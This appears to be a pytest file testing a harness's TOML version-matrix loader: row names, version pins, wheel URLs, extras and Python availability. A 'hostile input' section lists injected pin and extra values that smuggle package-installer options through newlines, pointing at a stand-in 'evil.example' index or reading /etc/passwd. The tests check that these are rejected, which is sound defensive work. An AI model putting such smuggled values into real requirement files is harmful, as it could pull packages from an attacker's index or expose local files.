import pytest

from harness.matrix import MatrixError, load_matrix, pin_requirement
from tests.conftest import ROOT

GOOD_ROW = '[[row]]\nname = "r1"\npins = { torch = "2.3.1" }\n'


def error_of(write, text) -> MatrixError:
    path = write("matrix.toml", text)
    with pytest.raises(MatrixError) as info:
        load_matrix(path)
    assert str(path) in str(info.value)
    return info.value


def test_the_shipped_matrix_has_the_five_rows_and_ci_tags():
    matrix = load_matrix(ROOT / "matrix.toml")
    assert [r.name for r in matrix.rows] == ["torch-2.3", "torch-2.8", "torch-2.11", "torch-2.14", "torch-2.15"]
    assert [r.name for r in matrix.rows if "ci" in r.tags] == ["torch-2.3", "torch-2.14"]
    assert all("nightly" in r.tags for r in matrix.rows)
    assert "torchdata==0.7.1" in matrix.row("torch-2.3").requirements()


def test_not_toml(write):
    assert "not valid TOML" in error_of(write, "[[row]\nname=").problem


def test_no_rows(write):
    err = error_of(write, "# empty\n")
    assert (err.field, err.row) == ("row", None) and "no rows" in err.problem


def test_row_without_name(write):
    err = error_of(write, '[[row]]\npins = { torch = "2.3.1" }\n')
    assert (err.row, err.field) == ("#1", "name")


def test_duplicate_name(write):
    err = error_of(write, GOOD_ROW + GOOD_ROW)
    assert (err.row, err.field) == ("r1", "name") and "duplicate" in err.problem


@pytest.mark.parametrize("name", ["../etc", "a b", "", "x" * 65, "-lead"])
def test_unsafe_name(write, name):
    err = error_of(write, f'[[row]]\nname = "{name}"\npins = {{ torch = "2.3.1" }}\n')
    assert err.field == "name" and "safe file name" in err.problem


def test_unknown_key(write):
    err = error_of(write, GOOD_ROW + 'colour = "red"\n')
    assert (err.row, err.field) == ("r1", "colour")


def test_unknown_package(write):
    err = error_of(write, '[[row]]\nname = "r1"\npins = { torch = "2.3.1", tensorflow = "2.0" }\n')
    assert (err.row, err.field) == ("r1", "pins.tensorflow")


@pytest.mark.parametrize("pin", ["2.3.x", "latest", "=>2.3", ">=two"])
def test_malformed_version(write, pin):
    err = error_of(write, f'[[row]]\nname = "r1"\npins = {{ torch = "{pin}" }}\n')
    assert (err.row, err.field) == ("r1", "pins.torch") and "malformed version" in err.problem


def test_malformed_extra(write):
    err = error_of(write, GOOD_ROW + 'extra = ["numpy<<2"]\n')
    assert err.field == "extra"


def test_error_text_names_file_row_and_field(write):
    err = error_of(write, '[[row]]\nname = "r1"\npins = { torch = "nope" }\n')
    assert str(err).startswith(f"{err.path}: row r1: field 'pins.torch': ")


@pytest.mark.parametrize("pin, requirement", [
    ("2.3.1", "torch==2.3.1"),
    (">=2.3,<2.4", "torch>=2.3,<2.4"),
    ("https://example.org/torch-2.3.1-cp311-linux_x86_64.whl",
     "torch @ https://example.org/torch-2.3.1-cp311-linux_x86_64.whl"),
    ("/wheels/torch-2.3.1-cp311-linux_x86_64.whl", "torch @ file:///wheels/torch-2.3.1-cp311-linux_x86_64.whl"),
])
def test_pins_become_requirements(pin, requirement):
    assert pin_requirement("torch", pin) == requirement


def test_environment_variable_swaps_the_file(write, monkeypatch):
    path = write("other.toml", GOOD_ROW)
    monkeypatch.setenv("HARNESS_MATRIX", str(path))
    assert load_matrix().path == path



# ---- hostile input (issue 18): every case gives one line naming file, row and field ----------------

WHEEL = "file:///wheels/torch-2.14.1-cp311-none-manylinux_2_28_x86_64.whl"


@pytest.mark.parametrize("pin", [
    WHEEL + "\\n--no-index",                     # uv would obey the second line as an option
    WHEEL + "\\n-r /etc/passwd",                 # ... and read a local file into the report
    WHEEL + "\\n--index-url http://evil.example/simple",
    "2.3.1 --extra-index-url http://evil.example",
    "https://example.org/torch.whl --no-deps",
    WHEEL + "\\t--no-deps",
    "2.3.1\\n--no-index",
])
def test_a_pin_with_whitespace_or_a_newline_is_rejected(write, pin):
    err = error_of(write, f'[[row]]\nname = "r1"\npins = {{ torch = "{pin}" }}\n')
    assert (err.row, err.field) == ("r1", "pins.torch")
    assert "whitespace or a control character" in err.problem or "control character" in err.problem


@pytest.mark.parametrize("pin, problem", [
    ("javascript://x/torch.whl", "must use"),
    ("ftp://example.org/torch-2.3.1.whl", "must use"),
    ("https://example.org/simple/torch/", "end in .whl"),
    ("https://example.org/torch-2.3.1.whl?x=1", "end in .whl"),
    ("/no/such/dir/torch-2.3.1-cp311-linux_x86_64.whl", "existing .whl"),
    ("./torch.tar.gz", "existing .whl"),
])
def test_a_wheel_pin_is_an_http_or_file_url_or_an_existing_wheel(write, pin, problem):
    err = error_of(write, f'[[row]]\nname = "r1"\npins = {{ torch = "{pin}" }}\n')
    assert err.field == "pins.torch" and problem in err.problem


def test_an_existing_wheel_file_and_wheel_urls_are_accepted(write, tmp_path):
    wheel = tmp_path / "torch-2.3.1-cp311-linux_x86_64.whl"
    wheel.write_bytes(b"")
    for pin in (str(wheel), "https://download.example/torch-2.3.1-cp311-linux_x86_64.whl", WHEEL):
        path = write("matrix.toml", f'[[row]]\nname = "r1"\npins = {{ torch = "{pin}" }}\n')
        assert load_matrix(path).rows[0].pins["torch"] == pin


def test_a_control_character_in_an_extra_is_rejected(write):
    err = error_of(write, GOOD_ROW + 'extra = ["numpy<2\\n-r /etc/passwd"]\n')
    assert (err.row, err.field) == ("r1", "extra")


@pytest.mark.parametrize("first, second", [("A", "a"), ("torch-2.14", "torch.2.14"), ("t_1", "T-1")])
def test_names_equal_after_nox_normalisation_are_duplicates(write, first, second):
    text = f'[[row]]\nname = "{first}"\npins = {{ torch = "2.3.1" }}\n' \
           f'[[row]]\nname = "{second}"\npins = {{ torch = "2.3.1" }}\n'
    err = error_of(write, text)
    assert (err.row, err.field) == (second, "name") and "duplicate" in err.problem


def test_a_python_not_found_here_is_rejected_with_what_is_available(write, monkeypatch):
    import harness.matrix as matrix

    monkeypatch.setattr(matrix, "python_found", lambda v: v == "3.11")
    monkeypatch.setattr(matrix, "local_pythons", lambda: ["3.11"])
    err = error_of(write, GOOD_ROW + 'python = "3.12"\n')
    assert (err.row, err.field) == ("r1", "python")
    assert "3.12" in err.problem and "available: 3.11" in err.problem


def test_a_python_found_here_is_honoured_by_the_row_session(write):
    """`nox -l --json` shows each row session's interpreter: the row's `python`."""
    import json
    import subprocess
    import sys

    from harness.matrix import CURRENT_PYTHON

    path = write("matrix.toml", GOOD_ROW + f'python = "{CURRENT_PYTHON}"\n')
    assert load_matrix(path).rows[0].python == CURRENT_PYTHON
    proc = subprocess.run([sys.executable, "-m", "nox", "-f", str(ROOT / "noxfile.py"), "-l", "--json",
                           "-s", "matrix"], capture_output=True, text=True, timeout=120,
                          env={**__import__("os").environ, "HARNESS_MATRIX": str(path)})
    assert proc.returncode == 0, proc.stderr
    sessions = json.loads(proc.stdout)
    assert [(s["session"], s["python"]) for s in sessions] == [("matrix(r1)", CURRENT_PYTHON)]


def test_the_nox_session_rejects_an_unavailable_python_with_exit_2(write):
    import subprocess
    import sys

    path = write("matrix.toml", GOOD_ROW + 'python = "3.99"\n')
    proc = subprocess.run([sys.executable, "-m", "nox", "-f", str(ROOT / "noxfile.py"), "-l"],
                          capture_output=True, text=True, timeout=120,
                          env={**__import__("os").environ, "HARNESS_MATRIX": str(path)})
    assert proc.returncode == 2
    assert f"{path}: row r1: field 'python': no Python 3.99" in proc.stderr and "available:" in proc.stderr
